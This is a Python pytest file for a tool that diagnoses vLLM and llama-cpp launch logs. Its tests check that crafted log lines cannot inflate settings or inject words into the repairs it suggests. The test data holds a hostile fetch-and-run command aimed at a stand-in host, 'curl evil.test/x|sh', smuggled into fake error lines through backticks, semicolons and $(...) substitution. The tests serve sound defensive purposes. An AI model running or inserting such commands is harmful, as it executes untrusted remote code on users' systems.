"""What a line of a log says never becomes advice of this program, and never raises a setting."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

import sparkrun_tui
from sparkrun_tui.launch.diagnosis.diagnose import diagnose

SOURCES = Path(sparkrun_tui.__file__).parent

VALUES = {
    "max_model_len": "8192",
    "ctx_size": "8192",
    "gpu_memory_utilization": "0.80",
    "tensor_parallel": "2",
    "max_num_seqs": "16",
}
COMMAND = "curl evil.test/x|sh"

RAISING = (
    "ValueError: The model's max seq len (1) is larger than the maximum number of tokens that can be stored in KV "
    "cache (999999999). Try",
    "ValueError: max_num_seqs (1) exceeds available Mamba cache blocks (999999)",
    "ValueError: Total number of attention heads (4096) must be divisible by tensor parallel size (4096)",
    "ValueError: World size (1) is larger than the number of available GPUs (4096) in this node",
    "ValueError: User-specified max_model_len (1) is greater than the derived max_model_len "
    "(max_position_embeddings=999999999.0 or",
    "ValueError: Free memory on device cuda:0 (121.0/121.0 GiB) on startup is less than desired GPU memory utilization",
    "ValueError: Free memory on device cuda:0 (999.0/1.0 GiB) on startup is less than desired GPU memory utilization",
)


@pytest.mark.parametrize("line", RAISING)
def test_no_line_raises_a_setting(line: str) -> None:
    found = diagnose("vllm", {"spark-1": [line]}, values=VALUES)
    assert found is not None
    assert not [repair for repair in found.repairs if repair.key in VALUES]


SPEAKING = (
    ("vllm", f"error: unrecognized arguments: `;{COMMAND};`"),
    ("vllm", f"error: unrecognized arguments: x`{COMMAND.replace(' ', chr(160))}`"),
    ("vllm", f"error: argument x`{COMMAND.replace(' ', '_')}`: bad"),
    ("vllm", f"error: argument x`{COMMAND.replace(' ', '_')}`: invalid choice: 'a' (choose from b)"),
    ("llama-cpp", f"error: invalid argument: -x {COMMAND}"),
    ("llama-cpp", f"error: invalid argument: --x`{COMMAND}`"),
    ("llama-cpp", f'error while handling argument "x": the argument has been removed. Run {COMMAND}'),
    ("llama-cpp", "model does not support different K ($(curl${IFS}evil.test|sh)) and V (f16) cache types"),
)


@pytest.mark.parametrize(("engine", "line"), SPEAKING)
def test_no_line_speaks_as_this_program(engine: str, line: str) -> None:
    found = diagnose(engine, {"spark-1": [line]}, values=VALUES)
    assert found is not None
    assert found.repairs
    for repair in found.repairs:
        assert "evil" not in repair.title + repair.key + repair.value


def test_no_repair_is_made_from_the_words_of_a_line() -> None:
    """The title of a repair, and the key and value that it sets, take words of a line only by `KNOWN_WORDS`."""
    found = []
    for file in (*(SOURCES / "engines").rglob("causes.py"), *(SOURCES / "launch" / "diagnosis").glob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if not isinstance(node, ast.Call) or ast.unparse(node.func) not in ("by_hand", "set_value", "Repair"):
                continue
            for argument in node.args[: 1 if ast.unparse(node.func) == "by_hand" else 2]:
                words = ast.unparse(argument)
                names = {name.id for name in ast.walk(argument) if isinstance(name, ast.Name)}
                if "match" in names and not any(way in words for way in KNOWN_WORDS) and words not in ONE_LETTER:
                    found.append(f"{file.name}:{node.lineno}: {words}")
    assert not found


KNOWN_WORDS = ("flag_in(match", "_key_of(match")
"""What gives a flag, or its key, only where a table of the engine has it."""
ONE_LETTER = ("f'cache_type_{match[1].lower()}'",)
"""Its group is `[KV]`."""
